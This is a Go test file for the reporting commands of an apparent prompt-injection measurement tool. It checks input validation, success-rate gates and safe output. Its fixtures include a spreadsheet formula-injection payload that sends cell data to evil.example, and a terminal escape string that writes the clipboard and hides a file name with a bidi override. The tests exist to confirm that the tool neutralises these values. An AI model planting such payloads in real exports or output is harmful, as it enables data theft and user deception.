package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/pikit-go/pikit/judge"
	"github.com/pikit-go/pikit/matrix"
	"github.com/pikit-go/pikit/report"
)

// runStdin runs a command line with stdin.
func runStdin(t *testing.T, stdin string, args ...string) runResult {
	t.Helper()
	var out, errOut bytes.Buffer
	code := Run(context.Background(), args, IO{In: strings.NewReader(stdin), Out: &out, ErrOut: &errOut})
	return runResult{code, out.String(), errOut.String()}
}

// writeReportResults writes results as JSONL (or JSON or CSV, by extension).
func writeReportResults(t *testing.T, dir, name string, res []matrix.Result) string {
	t.Helper()
	p := filepath.Join(dir, name)
	w, err := report.Create(p, true)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range res {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return p
}

// reportCells makes n results of one attack and defense, the first succ of them
// successes, keyed prefix-0, prefix-1, …
func reportCells(prefix, attack, defense string, n, succ int) []matrix.Result {
	out := make([]matrix.Result, n)
	for i := range out {
		out[i] = matrix.Result{Key: fmt.Sprintf("%s-%d", prefix, i), Attack: attack, Defense: defense, Agent: "chat", Target: "mock", Outcome: judge.Refused}
		if i < succ {
			out[i].Outcome, out[i].Success = judge.FullSuccess, true
		}
	}
	return out
}

// TestReportRejectsNonResults: report, compare and gate exit 2 on a file
// that is not pikit results, naming the file and the line.
func TestReportRejectsNonResults(t *testing.T) {
	dir := t.TempDir()
	good := writeReportResults(t, dir, "good.jsonl", reportCells("k", "naive", "none", 4, 1))
	files := []struct{ name, body, want string }{
		{"other.jsonl", `{"name":"x","value":1}` + "\n", "other.jsonl:1:"},
		{"third.jsonl", `{"key":"a","attack":"naive","outcome":"refused"}` + "\n\n" + `{"id":3}` + "\n", "third.jsonl:3:"},
		{"array.jsonl", "[1,2,3]\n", "array.jsonl:1:"},
		{"other.json", "[\n  {\"name\": \"x\"}\n]\n", "other.json:2:"},
		{"object.json", `{"attack":"naive","outcome":"refused"}`, "object.json:1: want a JSON array"},
		{"other.csv", "name,value\nx,1\n", `other.csv:1: not a pikit results CSV`},
		{"notes.txt", "hello\n", "notes.txt:1: want a JSON array"},
	}
	for _, f := range files {
		path := writeFile(t, dir, f.name, f.body)
		for _, args := range [][]string{
			{"report", path},
			{"report", good, path, "--format", "json"},
			{"compare", good, path},
			{"compare", path, good},
			{"gate", path, "--max-asr", "0.5"},
		} {
			t.Run(f.name+" "+args[0], func(t *testing.T) {
				r := run(t, args...)
				if r.code != ExitUsage || !strings.Contains(r.err, f.want) || r.out != "" {
					t.Errorf("%v: exit %d, want 2 and %q on stderr and nothing on stdout:\n%s%s", args, r.code, f.want, r.err, r.out)
				}
			})
		}
	}
	// The Python pikit's files still read.
	for _, f := range []string{"python_results.json", "python_results.csv"} {
		if r := run(t, "report", filepath.Join("..", "..", "report", "testdata", f)); r.code != 0 || !strings.Contains(r.out, "2/3") {
			t.Errorf("%s: %+v", f, r)
		}
	}
}

// TestGateEmptyAndThresholds: a gate over no judged cells fails unless
// --allow-empty; NaN, infinite and out-of-range thresholds and negative
// --max-errors are usage errors that write nothing.
func TestGateEmptyAndThresholds(t *testing.T) {
	dir := t.TempDir()
	empty := writeFile(t, dir, "empty.jsonl", "")
	emptyJSON := writeFile(t, dir, "empty.json", "[]\n")
	emptyCSV := writeFile(t, dir, "empty.csv", "attack,outcome,success\n")
	errored := reportCells("e", "naive", "none", 3, 0)
	for i := range errored {
		errored[i].Outcome, errored[i].Error = judge.RuntimeError, "HTTP 503"
	}
	allErrors := writeReportResults(t, dir, "errors.jsonl", errored)
	benign := writeReportResults(t, dir, "benign.jsonl", append(reportCells("b", "none", "none", 2, 0), reportCells("k", "naive", "none", 10, 0)...))
	withErrors := writeReportResults(t, dir, "some-errors.jsonl", append(reportCells("k", "naive", "none", 10, 0), errored...))
	junit := filepath.Join(dir, "gate.xml")
	tests := []struct {
		args []string
		code int
		want string // on stdout or stderr
	}{
		{[]string{"gate", empty, "--max-asr", "0.1"}, ExitFailed, "FAIL all cells: 0/0 (—) — no judged cells"},
		{[]string{"gate", emptyJSON, "--max-asr", "0.1"}, ExitFailed, "no judged cells"},
		{[]string{"gate", emptyCSV, "--max-asr", "0.1", "--by", "defense"}, ExitFailed, "no judged cells"},
		{[]string{"gate", allErrors, "--max-asr", "0.1"}, ExitFailed, "3 runtime errors"},
		{[]string{"gate", allErrors, "--max-asr", "0.1", "--by", "attack"}, ExitFailed, "FAIL attack=naive"},
		{[]string{"gate", empty, "--max-asr", "0.1", "--allow-empty"}, ExitOK, "ok   all cells"},
		{[]string{"gate", allErrors, "--max-asr", "0.1", "--allow-empty"}, ExitOK, "pass"},
		// A group of only benign baseline cells has no attack to judge.
		{[]string{"gate", benign, "--max-asr", "0.1", "--by", "attack"}, ExitOK, "ok   attack=none"},
		{[]string{"gate", withErrors, "--max-asr", "0.1"}, ExitOK, "pass"}, // no --max-errors: no limit
		{[]string{"gate", withErrors, "--max-asr", "0.1", "--max-errors", "0"}, ExitFailed, "3 runtime errors > 0"},
		{[]string{"gate", withErrors, "--max-asr", "0.1", "--max-errors", "3"}, ExitOK, "pass"},
		{[]string{"gate", withErrors, "--max-asr", "0.1", "--max-errors", "-1", "--junit", junit}, ExitUsage, "--max-errors: want 0 or more"},
		{[]string{"gate", withErrors, "--max-asr", "NaN", "--junit", junit}, ExitUsage, "got NaN"},
		{[]string{"gate", withErrors, "--max-asr", "Inf", "--junit", junit}, ExitUsage, "got +Inf"},
		{[]string{"gate", withErrors, "--max-asr", "-Inf"}, ExitUsage, "got -Inf"},
		{[]string{"gate", withErrors, "--max-asr", "1.5"}, ExitUsage, "between 0 and 1"},
	}
	for i, tt := range tests {
		t.Run(fmt.Sprintf("%d %s", i, filepath.Base(tt.args[1])), func(t *testing.T) {
			r := run(t, tt.args...)
			if r.code != tt.code || !strings.Contains(r.out+r.err, tt.want) {
				t.Errorf("%v: exit %d, want %d and %q:\n%s%s", tt.args, r.code, tt.code, tt.want, r.out, r.err)
			}
		})
	}
	if _, err := os.Stat(junit); err == nil {
		t.Error("a usage error wrote the JUnit file")
	}
}

// TestCompareFormatsFlipsAndEmptyGroups: compare refuses an unknown
// --format, lists 20 flipped cells and counts the rest (all of them in
// JSON), and shows a group with no judged cells as "—", not an interval.
func TestCompareFormatsFlipsAndEmptyGroups(t *testing.T) {
	dir := t.TempDir()
	errored := reportCells("x", "broken", "none", 2, 0)
	for i := range errored {
		errored[i].Outcome, errored[i].Error = judge.RuntimeError, "HTTP 503"
	}
	base := writeReportResults(t, dir, "base.jsonl", append(reportCells("k", "naive", "none", 30, 30), errored...))
	next := writeReportResults(t, dir, "next.jsonl", append(reportCells("k", "naive", "none", 30, 0), errored...))
	for _, args := range [][]string{
		{"compare", base, next, "--format", "yaml"},
		{"compare", base, next, "--format", "markdown"},
		{"report", base, "--format", "yaml"},
	} {
		if r := run(t, args...); r.code != ExitUsage || !strings.Contains(r.err, "unknown format") || r.out != "" {
			t.Errorf("%v: %+v", args, r)
		}
	}
	r := run(t, "compare", base, next, "--by", "attack")
	if r.code != 0 {
		t.Fatalf("%+v", r)
	}
	if n := strings.Count(r.out, "now fails"); n != 20 {
		t.Errorf("%d flipped cells listed, want 20:\n%s", n, r.out)
	}
	for _, w := range []string{"30 cells flipped", "… and 10 more (--format json lists every flipped cell)"} {
		if !strings.Contains(r.out, w) {
			t.Errorf("compare lacks %q:\n%s", w, r.out)
		}
	}
	if !regexp.MustCompile(`(?m)^broken +0/0 — +0/0 — +— +—$`).MatchString(r.out) {
		t.Errorf("a group with no judged cells is not shown as —:\n%s", r.out)
	}
	if strings.Contains(r.out, "0.0–100.0") {
		t.Errorf("a group with n = 0 shows an interval:\n%s", r.out)
	}
	r = run(t, "compare", base, next, "--format", "json")
	var c report.Comparison
	if err := json.Unmarshal([]byte(r.out), &c); err != nil || len(c.Flips) != 30 {
		t.Errorf("json: %d flips, %v", len(c.Flips), err)
	}
	// report's text and Markdown show no interval for n = 0 either.
	for _, format := range []string{"table", "markdown"} {
		r := run(t, "report", base, "--by", "attack", "--format", format)
		if r.code != 0 || strings.Contains(r.out, "0.0–100.0") || !strings.Contains(r.out, "—") {
			t.Errorf("report %s: %+v", format, r)
		}
	}
	if r := run(t, "report", writeFile(t, dir, "empty.jsonl", "")); r.code != 0 || !strings.Contains(r.out, "0/0 (—)") {
		t.Errorf("empty report: %+v", r)
	}
}

// TestReportCSVFormulas: report --format csv neutralises cells a
// spreadsheet would run; --csv-raw writes them as they are.
func TestReportCSVFormulas(t *testing.T) {
	dir := t.TempDir()
	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	res := append(reportCells("a", formula, "none", 2, 1), reportCells("b", "@SUM(A1:A9)", "none", 2, 0)...)
	res = append(res, reportCells("c", "-1+2", "none", 1, 0)...)
	res = append(res, reportCells("d", "-7", "none", 1, 0)...)
	path := writeReportResults(t, dir, "r.jsonl", res)
	r := run(t, "report", path, "--by", "attack", "--format", "csv")
	if r.code != 0 {
		t.Fatalf("%+v", r)
	}
	for _, w := range []string{`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",1,2`, "\n'@SUM(A1:A9),0,2", "\n'-1+2,0,1", "\n-7,0,1"} {
		if !strings.Contains(r.out, w) {
			t.Errorf("csv lacks %q:\n%s", w, r.out)
		}
	}
	r = run(t, "report", path, "--by", "attack", "--format", "csv", "--csv-raw")
	if r.code != 0 || strings.Contains(r.out, "'") || !strings.Contains(r.out, "\n@SUM(A1:A9),0,2") {
		t.Errorf("--csv-raw: %+v", r)
	}
	if r := run(t, "report", path, "--csv-raw"); r.code != ExitUsage || !strings.Contains(r.err, "--csv-raw applies to --format csv") {
		t.Errorf("--csv-raw with a table: %+v", r)
	}
}

// reportHostile holds what a terminal would act on: clear screen, an OSC 52
// clipboard write, a carriage return, a C1 CSI and a bidi override.
const reportHostile = "\x1b[2J\x1b]52;c;ZXZpbA==\x07\rhidden\u009b31m\u202egnp.exe"

// reportUnsafe lists what must not reach a terminal raw.
var reportUnsafe = []string{"\x1b", "\x07", "\r", "\u009b", "\u202e"}

func assertReportSafe(t *testing.T, what, s string) {
	t.Helper()
	for _, u := range reportUnsafe {
		if strings.Contains(s, u) {
			t.Errorf("%s: %q reached the output:\n%q", what, u, s)
		}
	}
}

// TestReportTerminalSafety: report, compare and gate print values from the
// results (attack names, case ids, outcomes, keys, labels, reasons) and
// error messages quoting files with every control sequence escaped; JSON
// output stays valid and keeps the values.
func TestReportTerminalSafety(t *testing.T) {
	dir := t.TempDir()
	res := reportCells("k", "naive", "none", 3, 1)
	for i := range res {
		res[i].Attack, res[i].CaseID, res[i].Key = reportHostile, reportHostile, reportHostile+fmt.Sprint(i)
		res[i].Defense, res[i].Agent, res[i].Target, res[i].Channel = reportHostile, reportHostile, reportHostile, reportHostile
		res[i].Reason = "reason " + reportHostile
	}
	// Two values of each field, so that report's tables per field show.
	res[2].Attack, res[2].CaseID, res[2].Defense = reportHostile+"2", reportHostile+"2", reportHostile+"2"
	res[2].Agent, res[2].Target, res[2].Channel = reportHostile+"2", reportHostile+"2", reportHostile+"2"
	base := writeReportResults(t, dir, "base.jsonl", res)
	flipped := append([]matrix.Result(nil), res...)
	flipped[0].Success, flipped[0].Outcome = false, judge.PolicyBlocked
	flipped[1].Success, flipped[1].Outcome = true, judge.FullSuccess
	next := writeReportResults(t, dir, "next.jsonl", flipped)
	for _, args := range [][]string{
		{"report", base},
		{"report", base, "--format", "markdown"},
		{"report", base, "--by", "attack,outcome,case_id"},
		{"report", base, "--by", "attack,outcome", "--format", "markdown"},
		{"compare", base, next},
		{"compare", base, next, "--by", "agent,channel,target"},
		{"gate", base, "--max-asr", "0", "--by", "attack,outcome,defense"},
	} {
		r := run(t, args...)
		if r.code != 0 && r.code != ExitFailed {
			t.Errorf("%v: %+v", args, r)
		}
		if !strings.Contains(r.out, `\x1b[2J`) || !strings.Contains(r.out, `\u202e`) {
			t.Errorf("%v: the escaped values are not shown:\n%s", args, r.out)
		}
		assertReportSafe(t, strings.Join(args[:1], " "), r.out+r.err)
	}
	for _, args := range [][]string{
		{"report", base, "--format", "json"},
		{"report", base, "--format", "json", "--by", "attack,outcome"},
		{"compare", base, next, "--format", "json"},
	} {
		r := run(t, args...)
		assertReportSafe(t, strings.Join(args, " "), r.out+r.err)
		var v any
		if err := json.Unmarshal([]byte(r.out), &v); err != nil {
			t.Errorf("%v: not JSON: %v", args, err)
		}
		if !strings.Contains(fmt.Sprint(v), reportHostile) {
			t.Errorf("%v: the values changed", args)
		}
	}
	// CSV to a file or a pipe (not a terminal) is data: the values as
	// they are, for the program reading it.
	if r := run(t, "report", base, "--by", "attack", "--format", "csv"); !strings.Contains(r.out, reportHostile) {
		t.Errorf("CSV to a pipe is not the values as they are:\n%q", r.out)
	}
	var c report.Comparison
	if r := run(t, "compare", base, next, "--format", "json"); json.Unmarshal([]byte(r.out), &c) != nil || len(c.Flips) != 2 || c.Flips[0].Key != reportHostile+"0" {
		t.Errorf("compare json flips: %+v", c.Flips)
	}
	// Error messages quote file names and content.
	badCSV := writeFile(t, dir, "bad.csv", reportHostile+",x\n1,2\n")
	badName := writeFile(t, dir, "r"+reportHostile+".jsonl", "{}\n")
	// An outcome outside judge.Outcomes is refused, quoted in the error.
	res[2].Outcome = judge.Outcome(reportHostile)
	badOutcome := writeReportResults(t, dir, "outcome.jsonl", res)
	for _, args := range [][]string{
		{"report", badOutcome},
		{"gate", badOutcome, "--max-asr", "0.1"},
		{"compare", base, badOutcome},
		{"report", badCSV},
		{"report", badName},
		{"compare", badName, base},
		{"gate", badCSV, "--max-asr", "0.1"},
		{"report", filepath.Join(dir, "missing"+reportHostile+".jsonl")},
		{"report", base, "--html", filepath.Join(dir, "no"+reportHostile, "r.html")},
	} {
		r := run(t, args...)
		if r.code != ExitUsage || !strings.Contains(r.err, `\x1b[2J`) {
			t.Errorf("%v: %+v", args, r)
		}
		assertReportSafe(t, args[0]+" error", r.out+r.err)
	}
}

// TestReportOutputsNotInputs: --html and --junit refuse an input results
// file (with --force too), a directory and a missing directory; --junit
// overwrites a report through a temporary file.
func TestReportOutputsNotInputs(t *testing.T) {
	dir := t.TempDir()
	in := writeReportResults(t, dir, "r.jsonl", reportCells("k", "naive", "none", 4, 1))
	inJSON := writeReportResults(t, dir, "r.json", reportCells("j", "naive", "none", 4, 1))
	link := filepath.Join(dir, "link.html")
	if err := os.Symlink(in, link); err != nil {
		t.Fatal(err)
	}
	before, _ := os.ReadFile(in)
	beforeJSON, _ := os.ReadFile(inJSON)
	for _, tt := range []struct {
		args []string
		want string
	}{
		{[]string{"report", in, "--html", in}, "is also an input"},
		{[]string{"report", in, "--html", in, "--force"}, "is also an input"},
		{[]string{"report", in, inJSON, "--html", inJSON, "--force"}, "is also an input"},
		{[]string{"report", in, "--html", link, "--force"}, "is also an input"},
		{[]string{"report", in, "--html", dir}, "is a directory"},
		{[]string{"report", in, "--html", filepath.Join(dir, "nope", "r.html")}, "does not exist"},
		{[]string{"gate", in, "--max-asr", "0.5", "--junit", in}, "is also an input"},
		{[]string{"gate", in, inJSON, "--max-asr", "0.5", "--junit", inJSON}, "is also an input"},
		{[]string{"gate", in, "--max-asr", "0.5", "--junit", dir}, "is a directory"},
		{[]string{"gate", in, "--max-asr", "0.5", "--junit", filepath.Join(dir, "nope", "g.xml")}, "does not exist"},
	} {
		r := run(t, tt.args...)
		if r.code != ExitUsage || !strings.Contains(r.err, tt.want) {
			t.Errorf("%v: exit %d, want 2 and %q: %s", tt.args, r.code, tt.want, r.err)
		}
	}
	if after, _ := os.ReadFile(in); !bytes.Equal(before, after) {
		t.Error("the input results file changed")
	}
	if after, _ := os.ReadFile(inJSON); !bytes.Equal(beforeJSON, after) {
		t.Error("the input JSON results file changed")
	}
	// An existing HTML report needs --force; an existing JUnit report is
	// replaced (gate reports are regenerated), whole.
	html := writeFile(t, dir, "r.html", "old")
	if r := run(t, "report", in, "--html", html); r.code != ExitUsage || !strings.Contains(r.err, "--force") {
		t.Errorf("existing --html: %+v", r)
	}
	if r := run(t, "report", in, "--html", html, "--force"); r.code != 0 {
		t.Errorf("--force: %+v", r)
	}
	junit := writeFile(t, dir, "g.xml", "old")
	if r := run(t, "gate", in, "--max-asr", "0.5", "--junit", junit); r.code != 0 {
		t.Errorf("gate: %+v", r)
	}
	if b, _ := os.ReadFile(junit); !bytes.Contains(b, []byte("<testsuite")) {
		t.Errorf("junit not replaced: %s", b)
	}
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		if strings.Contains(e.Name(), ".tmp-") {
			t.Errorf("temporary file left behind: %s", e.Name())
		}
	}
}

// TestReportStdinAndHTMLSample: "-" reads JSONL from standard input; an
// HTML report of many cells lists a sample of them, and says so.
func TestReportStdinAndHTMLSample(t *testing.T) {
	var jsonl bytes.Buffer
	w := report.NewJSONL(&jsonl)
	var res []matrix.Result
	for _, a := range []string{"naive", "combined", "escape"} {
		for _, d := range []string{"none", "spotlighting"} {
			res = append(res, reportCells(a+d, a, d, 200, 20)...)
		}
	}
	for _, r := range res {
		w.Write(r)
	}
	w.Close()
	r := runStdin(t, jsonl.String(), "report", "-", "--by", "attack")
	if r.code != 0 || !strings.Contains(r.out, "cells           1200") || !strings.Contains(r.out, "40/400") {
		t.Errorf("stdin: %+v", r)
	}
	dir := t.TempDir()
	path := writeFile(t, dir, "r.jsonl", jsonl.String())
	html := filepath.Join(dir, "r.html")
	if r := run(t, "report", path, "--html", html, "--html-traces", "60"); r.code != 0 {
		t.Fatalf("%+v", r)
	}
	page, _ := os.ReadFile(html)
	if n := bytes.Count(page, []byte(`<tr class="res">`)); n != 60 {
		t.Errorf("%d cells listed, want 60 (10 of each of 6 groups)", n)
	}
	if !bytes.Contains(page, []byte("This page lists 60 of the 1200 cells")) {
		t.Error("the page does not say it lists a sample")
	}
	if r := run(t, "report", path, "--html", html, "--force", "--html-traces", "0"); r.code != 0 {
		t.Fatalf("%+v", r)
	}
	page, _ = os.ReadFile(html)
	if n := bytes.Count(page, []byte(`<tr class="res">`)); n != 1200 || bytes.Contains(page, []byte("This page lists")) {
		t.Errorf("--html-traces 0: %d cells listed, want all 1200", n)
	}
	if r := run(t, "report", path, "--html-traces", "5"); r.code != ExitUsage {
		t.Errorf("--html-traces without --html: %+v", r)
	}
}
